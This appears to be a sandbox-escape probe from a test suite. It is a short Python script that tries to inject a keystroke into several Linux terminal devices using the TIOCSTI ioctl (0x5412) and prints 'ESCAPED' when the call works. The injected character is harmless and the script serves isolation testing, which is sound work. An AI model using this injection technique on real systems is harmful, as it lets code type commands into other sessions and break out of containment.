"""
Types into the terminal of the service.

Success: it has one.
Needs: linux
Local: unsafe
"""
import fcntl
import os

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), 0x5412, b"x")
        print("ESCAPED:", path)
    except OSError as error:
        print(error)
